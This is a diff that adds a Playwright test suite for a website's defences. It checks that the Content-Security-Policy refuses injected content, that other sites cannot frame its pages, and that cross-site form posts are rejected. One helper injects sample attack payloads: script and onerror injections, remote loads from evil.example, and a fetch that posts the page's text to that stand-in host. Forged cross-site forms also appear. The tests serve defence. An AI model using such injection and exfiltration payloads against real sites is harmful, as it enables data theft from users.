@@ -1,0 +1,210 @@
+import type { Page } from '@playwright/test';
+import { type Language, languages } from '../domain/languages.ts';
+import { pages, pathTo } from '../domain/pages.ts';
+import { notFoundPath, partnershipFramePath, servicePaths } from '../domain/service-pages.ts';
+import { contact, fillForm, formOn, partnership } from './other-forms.ts';
+import { fillAtOnce, isTold, referral, submitButton } from './referral-form.ts';
+import { expect, startSite, test } from './site.ts';
+import { startStranger } from './stranger-site.ts';
+
+/** Collects what the browser refuses because of the Content-Security-Policy, in every frame. */
+async function watchViolations(page: Page) {
+  const violations: string[] = [];
+  await page.exposeFunction('tellViolation', (text: string) => violations.push(text));
+  await page.addInitScript(() => {
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
+      const { tellViolation } = window as unknown as { tellViolation(text: string): void };
+      tellViolation(`${location.pathname}: ${effectiveDirective} ${blockedURI} (${sourceFile})`);
+    });
+  });
+  return violations;
+}
+
+/** Whatever on a page can be opened, opened. */
+async function openEverything(page: Page) {
+  for (const button of await page.locator('button[popovertarget]:visible').all()) {
+    await button.click();
+    await page.keyboard.press('Escape');
+  }
+  await page.evaluate(() => {
+    for (const details of document.querySelectorAll('details')) details.open = true;
+    scrollTo({ top: document.body.scrollHeight, behavior: 'instant' });
+  });
+}
+
+for (const language of languages) {
+  test.describe(`The Content-Security-Policy in ${language}`, () => {
+    test('lets every page be itself: nothing on it is refused', async ({ page, site }) => {
+      test.slow();
+      const violations = await watchViolations(page);
+      const paths = pages.map(({ id }) => pathTo(id, language));
+      const services = servicePaths().filter(
+        (path) => path.startsWith(`/${language}/`) && !path.endsWith(notFoundPath),
+      );
+      for (const path of [...paths, ...services, `/${language}/nowhere`]) {
+        const response = await page.goto(site.url + path);
+        const policy = (await response?.headerValue('content-security-policy')) ?? '';
+        expect(policy, path).toMatch(/^default-src 'none'; script-src 'self'/);
+        expect(policy, path).not.toMatch(/unsafe|https?:|\*/);
+        await openEverything(page);
+      }
+      await page.setViewportSize({ width: 390, height: 800 });
+      await page.goto(pathTo('home', language));
+      await openEverything(page);
+      expect(violations).toEqual([]);
+    });
+
+    test('lets the forms do all they do, toast and frame included', async ({ page }) => {
+      const violations = await watchViolations(page);
+      await fillAtOnce(page, language, { businessName: `Policy ${language}` });
+      await submitButton(page, language).click();
+      await isTold(page, 'savedOnline', language);
+      await fillForm(page, contact, language, { ...contact.values, email: `policy-${language}@example.com` });
+      await formOn(page, contact, language).submit.click();
+      await expect(page.getByRole('status').filter({ hasText: contact.words[language].success.title })).toBeVisible();
+      await page.goto(pathTo('form', language));
+      await expect(page.frameLocator('iframe').getByRole('form')).toBeVisible();
+      expect(violations).toEqual([]);
+    });
+
+    test('refuses what somebody slipped into a page', async ({ page }) => {
+      const violations = await watchViolations(page);
+      const asked: string[] = [];
+      await page.route('https://evil.example/**', (route) => {
+        asked.push(route.request().url());
+        return route.abort();
+      });
+      await page.goto(pathTo('referral', language));
+      await page.evaluate(slipIn);
+      const refused = () => new Set(violations.map((violation) => violation.split(' ')[1]));
+      await expect.poll(refused).toEqual(new Set(slippedIn));
+      expect(await page.evaluate(() => 'slippedIn' in window)).toBe(false);
+      expect(asked).toEqual([]);
+    });
+  });
+}
+
+/** What each attempt below is refused by. */
+const slippedIn = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src'].concat([
+  'connect-src',
+  'frame-src',
+  'base-uri',
+  'font-src',
+]);
+
+/** Runs in the page: what an injection would try. */
+function slipIn() {
+  const add = (html: string) => document.body.append(document.createRange().createContextualFragment(html));
+  add('<script>window.slippedIn = 1</script>');
+  add('<script src="https://evil.example/x.js"></script>');
+  add('<img src="https://evil.example/x.png">');
+  add('<img src="data:image/png," onerror="window.slippedIn = 2">');
+  add('<style>@font-face { font-family: evil; src: url(https://evil.example/x.woff2) } body { color: red }</style>');
+  add('<p style="color: red">red</p>');
+  add('<iframe src="https://evil.example/"></iframe>');
+  document.head.append(document.createRange().createContextualFragment('<base href="https://evil.example/">'));
+  fetch('https://evil.example/', { method: 'POST', body: document.body.textContent }).catch(() => {});
+  new FontFace('evil', 'url(https://evil.example/y.woff2)').load().catch(() => {});
+}
+
+test.describe('A frame', () => {
+  /** What a frame of an address shows: the address itself, or the browser's own page for what it may not show. */
+  const frameIn = async (page: Page, address: string) => {
+    await page.evaluate((src) => {
+      const frame = Object.assign(document.createElement('iframe'), { src, name: 'tried' });
+      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
+      document.body.append(frame);
+      return loaded;
+    }, address);
+    const shown = (await (await page.locator('iframe[name=tried]').elementHandle())?.contentFrame())?.url();
+    await page.evaluate(() => document.querySelector('iframe[name=tried]')?.remove());
+    return shown;
+  };
+  const blocked = 'chrome-error://chromewebdata/';
+  const framed = (language: Language) => [
+    `/${language}${partnershipFramePath}`,
+    `/${language}/answers/partnerships-saved`,
+  ];
+
+  test('on another site shows no page of ours, not even the partnership form', async ({ page, site }) => {
+    const stranger = await startStranger('<h1>Elsewhere</h1>');
+    try {
+      await page.goto(stranger.url);
+      for (const path of [
+        ...pages.map(({ id }) => pathTo(id, 'en')),
+        ...framed('en'),
+        ...framed('zh'),
+        '/en/nowhere',
+      ]) {
+        expect([path, await frameIn(page, site.url + path)]).toEqual([path, blocked]);
+      }
+      expect(await frameIn(page, `${stranger.url}/itself`)).toBe(`${stranger.url}/itself`);
+    } finally {
+      stranger.stop();
+    }
+  });
+
+  test('on our own site shows the partnership form and its answers, and no other page', async ({ page, site }) => {
+    await page.goto('/en/form');
+    await expect(page.frameLocator('iframe').getByRole('form', { name: partnership.words.en.title })).toBeVisible();
+    for (const path of [...framed('en'), ...framed('zh')]) expect(await frameIn(page, path)).toBe(site.url + path);
+    for (const path of ['/en', '/zh/referral', '/en/answers/referrals-saved', '/en/nowhere', '/healthz']) {
+      expect([path, await frameIn(page, path)]).toEqual([path, blocked]);
+    }
+  });
+});
+
+test('Another site can neither post nor fetch anything into our store', async ({ page }) => {
+  const site = await startSite();
+  const form = (path: string, values: object, type = 'application/x-www-form-urlencoded') =>
+    `<form method="post" enctype="${type}" action="${site.url}${path}" target="_blank">${Object.entries(values)
+      .map(([name, value]) => `<input name="${name}" value="${value}">`)
+      .join('')}<button>Post</button></form>`;
+  const stranger = await startStranger(
+    [
+      form('/api/submit-referral', { ...referral, confirmContact: 'on' }),
+      form('/api/send-message', { ...contact.values, email: 'forged@example.com' }),
+      form('/api/subscribe', { email: 'forged@example.com', consent: 'on' }, 'text/plain'),
+      form('/api/unsubscribe', { token: 'x' }),
+    ].join(''),
+  );
+  try {
+    await page.goto(stranger.url);
+    const statuses: number[] = [];
+    page.context().on('response', (response) => {
+      if (response.request().method() === 'POST') statuses.push(response.status());
+    });
+    for (const button of await page.getByRole('button').all()) await button.click();
+    await expect.poll(() => statuses.toSorted()).toEqual([403, 403, 403, 415]);
+    const commit = `${site.url}/v1/projects/encore/databases/(default)/documents:commit`;
+    const outcomes = await page.evaluate(
+      async ({ addresses, body }) => {
+        const outcome = (address: string, init: RequestInit) =>
+          fetch(address, { method: 'POST', body, ...init }).then(
+            ({ type, status }) => `${type} ${status}`,
+            () => 'refused',
+          );
+        const json = { headers: { 'Content-Type': 'application/json' } };
+        const all = addresses.flatMap((address) => [
+          outcome(address, {}),
+          outcome(address, json),
+          outcome(address, { mode: 'no-cors', credentials: 'include' }),
+        ]);
+        return Promise.all(all);
+      },
+      {
+        addresses: [commit, `${site.url}/api/submit-referral`, `${site.url}/api/send-message`],
+        body: JSON.stringify(referral),
+      },
+    );
+    // What was sent without asking can be neither read by the stranger nor stored by us.
+    expect(new Set(outcomes)).toEqual(new Set(['refused', 'opaque 0']));
+    for (const collection of ['referrals', 'messages', 'subscribers'] as const) {
+      expect(site.documents(collection)).toEqual([]);
+      expect(site.csv(collection, '--quarantine').trimEnd().split('\r\n')).toHaveLength(1);
+    }
+  } finally {
+    stranger.stop();
+    await site.stop();
+  }
+});
